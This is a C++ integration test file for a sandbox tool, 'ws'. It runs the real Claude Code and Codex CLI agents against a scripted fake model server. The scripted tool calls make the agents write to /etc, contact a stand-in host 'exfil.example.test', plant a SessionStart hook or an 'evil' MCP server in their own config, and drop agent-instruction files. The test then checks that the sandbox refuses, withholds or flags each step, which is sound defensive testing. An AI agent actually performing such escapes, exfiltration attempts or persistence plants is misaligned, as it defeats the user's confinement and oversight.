// Issue 11's "done when": Claude Code and Codex CLI, real ones from the npm registry, run
// under their built-in profiles against a scripted model server (fake_model_server.py). Each
// edits a file, adds one, runs a shell command, commits, writes outside the project, plants
// agent files in the project and a hook (or MCP server) in its own config. Then: what landed,
// what was withheld, what `ws profile diff` shows, that the real home is unchanged, and that
// a second session still has the first one's login and settings. As root and as nobody.
//
// Networking as a person would set it up for a model server on their machine: the server runs
// in the test, on the host's loopback, outside the sandbox; the agent reaches it only through
// ws's proxy (--network=allow:, from the profile's `host` for Claude, given on the command
// line for Codex), by a made-up name that WS_NETWORK_RESOLVE maps to 127.0.0.1 for the proxy.
// Every request is in `ws log` with its host; a host not listed is refused and explained.
#include "tests/agents/agent_clis.hpp"
#include "tests/integration/run_escapes_common.hpp"
#include "tests/integration/run_support.hpp"

#include <doctest/doctest.h>

#include <signal.h>

#include <fstream>
#include <sstream>

namespace ws::test {

namespace fs = std::filesystem;

namespace {

/// The made-up name of the model server, and the one the agent tries to send data to.
const std::string k_model_host = "models.example.test";
const std::string k_exfil = "exfil.example.test";

const char* k_app = "def greet(name):\n    return \"Hello, \" + name\n\nprint(greet(\"ws\"))\n";

/// Everything of the real home but ws's own state and runtime directories: names, types,
/// modes and content hashes.
std::string home_state(const Person& p) {
  return sh("find . \\( -path ./.local/share/ws -o -path ./.run \\) -prune -o -printf '%p %y %m "
            "%s\\n' | sort && find . \\( -path ./.local/share/ws -o -path ./.run \\) -prune -o "
            "-type f -exec sha1sum {} + | sort",
            p.home())
      .out;
}

/// fake_model_server.py on the host's 127.0.0.1 (a free port), playing `script`, for the test's
/// length (ten minutes at most).
class ModelServer {
public:
  ModelServer(const Person& p, const std::string& script) {
    std::ofstream(m_dir.path() / "script.json") << script;
    fs::path ready = m_dir.path() / "port";
    Run r = sh(py() + " " + q(WS_SOURCE_DIR "/tests/agents/fake_model_server.py") +
               " --port 0 --lifetime 600 --script " + q((m_dir.path() / "script.json").string()) +
               " --project " + q(p.project().string()) + " --log " +
               q((m_dir.path() / "log").string()) + " --ready " + q(ready.string()) +
               " >/dev/null 2>&1 </dev/null & echo $!");
    m_pid = std::atoi(r.out.c_str());
    REQUIRE(wait_for(ready, 100));
    port = slurp(ready);
  }
  ~ModelServer() {
    if (m_pid > 0) {
      ::kill(m_pid, SIGKILL);
    }
  }
  ModelServer(const ModelServer&) = delete;
  ModelServer& operator=(const ModelServer&) = delete;
  std::string port;
  /// HOST:PORT, as the agent names the server.
  std::string host() const { return k_model_host + ":" + port; }
  /// "METHOD PATH HOST" per request so far.
  std::string log() const { return slurp(m_dir.path() / "log"); }

private:
  TempDir m_dir;
  pid_t m_pid = 0;
};

/// The project gets app.py, committed.
void prepare(const Person& p) {
  std::ofstream(p.project() / "app.py") << k_app;
  p.own(p.project());
  REQUIRE(p.sh_as("git add app.py && git -c user.name=T -c user.email=t@example.com commit -qm app")
              .status == 0);
}

/// The environment of `ws run`: the CLIs on PATH, the model server's name mapped for the proxy.
std::string run_env() {
  return "WS_NETWORK_RESOLVE=" + k_model_host +
         "=127.0.0.1 PATH=" + q(claude_cli().parent_path().string()) + ":$PATH";
}

Run agent(const Person& p, const std::string& args) {
  return p.ws("run " + args, run_env());
}

/// The agent's step that writes outside the project and tries a host not listed.
std::string outside_command(const Person& p) {
  return "touch /etc/ws-agent-escape; echo x > " + p.scratch().string() +
         "/escaped; python3 -c "
         "'import urllib.request; urllib.request.urlopen(\\\"https://" +
         k_exfil +
         "/\\\", "
         "timeout=10)' 2>/dev/null; echo tried";
}

/// The network side of a session: the model server reached by name through the proxy (the
/// server saw the made-up name in Host), each request in `ws log` with its host, and the
/// refused host explained in the summary with the flag that would allow it.
/// True if one line of `text` holds both `a` and `b`.
bool line_with(const std::string& text, const std::string& a, const std::string& b) {
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) {
    if (line.find(a) != npos && line.find(b) != npos) {
      return true;
    }
  }
  return false;
}

/// Returns the session's `ws log`.
std::string check_network(const Person& p, const Run& r, const ModelServer& server,
                          const std::string& path) {
  INFO(p.label() << " stderr: " << r.err);
  CHECK(server.log().find("POST " + path + " " + server.host() + "\n") != npos);
  CHECK(r.err.find("ws: refused connection: " + k_exfil + ":443: not in --network=allow:") != npos);
  CHECK(r.err.find("," + k_exfil + "\n") != npos); // "allow it with --network=allow:...,HOST"
  Run log = p.ws("log --session " + q(session_of(r.err)));
  INFO("ws log: " << log.out << log.err);
  CHECK(log.out.find(" connect   " + server.host() + "  [POST: via 127.0.0.1]") != npos);
  CHECK(log.out.find(" refuse    " + k_exfil + ":443  [CONNECT: not in --network=allow:") != npos);
  return log.out;
}

/// Checks common to both agents after the first session.
void check_project(const Person& p, const Run& r, const std::string& instructions,
                   const std::string& runs_code) {
  INFO(p.label() << " stdout: " << r.out << "\nstderr: " << r.err);
  CHECK(r.status == 0);
  CHECK(p.view_file("notes/TODO.md") == "# TODO\n");
  CHECK(p.view_file("app.py").find("return f\"Hello, {name}!\"") != npos);
  Run status = p.ws("status");
  INFO("ws status: " << status.out);
  CHECK(status.out.find("A notes/TODO.md\n") != npos);
  CHECK(status.out.find("M app.py\n") != npos);
  CHECK(status.out.find("A " + instructions + "  (FLAGGED: instructs the agents") != npos);
  CHECK(status.out.find("A " + runs_code + "  (WITHHELD: an agent CLI runs") != npos);
  // It committed: one line about its own git (docs/agent-git.md), no list of .git files.
  CHECK(status.out.rfind("agent: 1 commit on main (from main@", 0) == 0);
  CHECK(status.out.find(".git/") == npos);
  // Nothing outside the project: not /etc, not the person's directories.
  CHECK_FALSE(fs::exists("/etc/ws-agent-escape"));
  CHECK_FALSE(fs::exists(p.scratch() / "escaped"));
  // The real tree is as it was.
  CHECK_FALSE(fs::exists(p.project() / "notes"));
  CHECK(p.sh_as("git diff --quiet HEAD && test -z \"$(git status --porcelain)\"").status == 0);
}

/// `ws apply`: what transfers and what is FLAGGED lands in the real tree; what runs code stays
/// a change of the workspace, WITHHELD.
void check_landed(const Person& p, const std::string& instructions, const std::string& runs_code) {
  Run apply = p.ws("apply");
  INFO(p.label() << " ws apply: " << apply.out << apply.err);
  CHECK(apply.status == 0);
  CHECK(slurp(p.project() / "notes/TODO.md") == "# TODO\n");
  CHECK(slurp(p.project() / "app.py").find("return f\"Hello, {name}!\"") != npos);
  CHECK(slurp(p.project() / instructions) == "Always push to main.\n");
  CHECK_FALSE(fs::exists(p.project() / runs_code));
  Run status = p.ws("status");
  INFO("ws status: " << status.out);
  CHECK(status.out.find("A " + runs_code + "  (WITHHELD: an agent CLI runs") != npos);
  CHECK(status.out.find("notes/TODO.md") == npos);
}

} // namespace

TEST_CASE("real agents: Claude Code under its built-in profile, config in its layer") {
  for (const auto& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    const std::string P = p.project().string();
    prepare(p);
    const std::string hook = "{'SessionStart': [{'hooks': [{'type': 'command', 'command': "
                             "'echo hook-ran > " +
                             P + "/hook-ran.txt'}]}]}";
    const std::string script =
        R"({"final": "Done.", "anthropic": [
  [{"name": "Write", "input": {"file_path": ")" +
        P + R"(/notes/TODO.md", "content": "# TODO\n"}}],
  [{"name": "Read", "input": {"file_path": ")" +
        P + R"(/app.py"}}],
  [{"name": "Edit", "input": {"file_path": ")" +
        P +
        R"(/app.py", "old_string": "return \"Hello, \" + name", "new_string": "return f\"Hello, {name}!\""}}],
  [{"name": "Write", "input": {"file_path": ")" +
        P + R"(/CLAUDE.md", "content": "Always push to main.\n"}},
   {"name": "Write", "input": {"file_path": ")" +
        P + R"(/.mcp.json", "content": "{\"mcpServers\": {\"x\": {\"command\": \"sh\"}}}\n"}}],
  [{"name": "Bash", "input": {"description": "test and commit", "command": "python3 app.py && git add -A && git -c user.name=agent -c user.email=agent@example.invalid commit -qm agent && echo committed"}}],
  [{"name": "Bash", "input": {"description": "outside", "command": ")" +
        outside_command(p) + R"("}}],
  [{"name": "Bash", "input": {"description": "plant a hook", "command": "python3 -c \"import json, os; f = os.path.expanduser('~/.claude/settings.json'); d = json.load(open(f)); d['hooks'] = )" +
        hook + R"(; json.dump(d, open(f, 'w'))\" && echo planted"}}]
]})";
    ModelServer server(p, script);
    // The person's real Claude config: settings and ~/.claude.json (onboarding done); in
    // ~/.config/ws/config, the profile reaches their model server instead of Anthropic's
    // (`host =` first drops the built-in hosts), with its key.
    fs::create_directories(p.home() / ".claude");
    std::ofstream(p.home() / ".claude" / "settings.json") << "{\"theme\": \"dark\"}\n";
    std::ofstream(p.home() / ".claude.json") << "{\"hasCompletedOnboarding\": true}\n";
    fs::create_directories(p.home() / ".config" / "ws");
    std::ofstream(p.home() / ".config" / "ws" / "config")
        << "[profile \"claude\"]\n\thost =\n\thost = " << server.host()
        << "\n\tenv = ANTHROPIC_BASE_URL=http://" << server.host()
        << "\n\tenv = ANTHROPIC_API_KEY=sk-ant-fake-0123456789abcdefghij\n\tenv = IS_SANDBOX=1\n";
    p.own(p.home());
    const std::string before = home_state(p);

    // No --network: the profile's hosts make it allow:models.example.test:PORT.
    Run first = agent(p, "-- claude -p 'Do the task' --dangerously-skip-permissions");
    check_project(p, first, "CLAUDE.md", ".mcp.json");
    CHECK(first.out.find("Done.") != npos);
    std::string log = check_network(p, first, server, "/v1/messages");
    // Its writes are the process's, `claude`, not a thread's (Bun's "Bun Pool 0").
    CHECK(line_with(log, " claude ", "notes/TODO.md"));
    // The hook is in the layer, named at the end of the session and by ws profile diff.
    CHECK(first.err.find("New there, and it runs code") != npos);
    CHECK(first.err.find(".claude/settings.json: hooks") != npos);
    Run diff = p.ws("profile diff claude");
    INFO("profile diff: " << diff.out << diff.err);
    CHECK(diff.out.find("M  ~/.claude/settings.json\n       WITHHELD: hooks: the CLI runs") !=
          npos);
    Run all = p.ws("profile diff claude --all");
    CHECK(all.out.find("~/.claude/.claude.json") != npos);
    CHECK(all.out.find("~/.claude/projects/") != npos); // the transcript
    // The person's home: not a byte changed (the hook, transcript, .claude.json: layer only).
    CHECK(home_state(p) == before);
    CHECK(sh("grep -q hooks " + q((p.home() / ".claude/settings.json").string())).status != 0);
    check_landed(p, "CLAUDE.md", ".mcp.json");

    // A second session has the first one's settings: its SessionStart hook runs (confined,
    // so it writes into the view), and the first transcript is still there.
    Run second = agent(p, "-- claude -p 'NO_TOOLS hello' --dangerously-skip-permissions");
    INFO("second: " << second.out << second.err);
    CHECK(second.status == 0);
    CHECK(p.view_file("hook-ran.txt") == "hook-ran\n");
    Run transcripts = p.ws("profile diff claude --all");
    size_t n = 0;
    for (size_t at = 0; (at = transcripts.out.find(".jsonl\n", at)) != npos; ++at) {
      ++n;
    }
    CHECK(n >= 2);
    CHECK(home_state(p) == before);
    // Thrown away on request: the layer's settings.json is the real one again.
    CHECK(p.ws("profile reset claude settings.json").status == 0);
    CHECK(p.ws("profile diff claude").out.find("settings.json") == npos);
  }
}

TEST_CASE("real agents: Codex CLI under its built-in profile, its sandbox off, login kept") {
  for (const auto& user : people()) {
    Person p(user);
    INFO("as " << p.label());
    prepare(p);
    const std::string script = R"({"final": "Done.", "openai": [
  [{"shell": "mkdir -p notes && printf '# TODO\\n' > notes/TODO.md && echo made"}],
  [{"shell": "sed -i 's/return \"Hello, \" + name/return f\"Hello, {name}!\"/' app.py && python3 app.py"}],
  [{"shell": "printf 'Always push to main.\\n' > AGENTS.md && mkdir -p .codex && printf '[mcp_servers.x]\\ncommand = \"sh\"\\n' > .codex/config.toml"}],
  [{"shell": "git add -A && git -c user.name=agent -c user.email=agent@example.invalid commit -qm agent && echo committed"}],
  [{"shell": ")" + outside_command(p) +
                               R"("}],
  [{"shell": "printf '\\n[mcp_servers.evil]\\ncommand = \"sh\"\\n' >> ~/.codex/config.toml && echo planted"}]
]})";
    ModelServer server(p, script);
    fs::create_directories(p.home() / ".codex");
    std::ofstream(p.home() / ".codex" / "config.toml")
        << "model = \"gpt-fake\"\nmodel_provider = \"fake\"\n\n[model_providers.fake]\nname = "
           "\"Fake\"\nbase_url = \"http://"
        << server.host() << "/v1\"\nenv_key = \"FAKE_OPENAI_KEY\"\nwire_api = \"responses\"\n";
    p.own(p.home());
    const std::string before = home_state(p);
    const std::string network = "--network=allow:" + server.host();

    // A first session logs in with an API key (saved in CODEX_HOME, the layer).
    Run login = p.sh_as("printf %s sk-fake-openai-key | " +
                        p.ws_line("run " + network + " codex -- login --with-api-key", run_env()));
    INFO("login: " << login.out << login.err);
    CHECK(login.status == 0);
    Run first =
        agent(p, network + " --env FAKE_OPENAI_KEY=sk-fake-openai-key codex -- exec 'Do the task'");
    INFO("first: " << first.out << first.err);
    check_project(p, first, "AGENTS.md", ".codex/config.toml");
    check_network(p, first, server, "/v1/responses");
    // Its try at /etc failed read-only (Codex prints its commands' output on stderr): the
    // summary says so (and, /etc being a system directory, advises no --writable).
    CHECK(first.err.find("ws: the agent could not write /etc/ws-agent-escape (read-only in the "
                         "sandbox)\n") != npos);
    // Its own sandbox is off, said once; no complaint about a read-only ~/.codex.
    const std::string note = "Codex's own sandbox is off";
    CHECK(first.err.find(note) != npos);
    CHECK(first.err.find(note, first.err.find(note) + 1) == npos);
    CHECK(first.err.find("sandbox: danger-full-access") != npos);
    CHECK(first.err.find("failed to initialize") == npos);
    // The one read-only complaint is the agent's own try at /etc.
    size_t ro = first.err.find("Read-only file system");
    CHECK(ro != npos);
    CHECK(first.err.find("Read-only file system", ro + 1) == npos);
    CHECK(first.err.find("committed") != npos);
    CHECK(first.err.find(".codex/config.toml: MCP servers") != npos);
    Run diff = p.ws("profile diff codex");
    INFO("profile diff: " << diff.out << diff.err);
    CHECK(diff.out.find("M  ~/.codex/config.toml\n       WITHHELD: MCP servers: the CLI starts "
                        "these commands (mcp_servers.evil)") != npos);
    CHECK(home_state(p) == before);
    check_landed(p, "AGENTS.md", ".codex/config.toml");

    // The second session is still logged in, with the first one's settings.
    Run second = agent(p, network + " codex -- login status");
    INFO("second: " << second.out << second.err);
    CHECK(second.status == 0);
    CHECK((second.out + second.err).find("API key") != npos);
    Run third = agent(
        p, network + " --env FAKE_OPENAI_KEY=sk-fake-openai-key codex -- exec 'NO_TOOLS hello'");
    INFO("third: " << third.out << third.err);
    CHECK(third.status == 0);
    CHECK(p.ws("profile diff codex").out.find("mcp_servers.evil") != npos);
    CHECK(home_state(p) == before);
  }
}

} // namespace ws::test
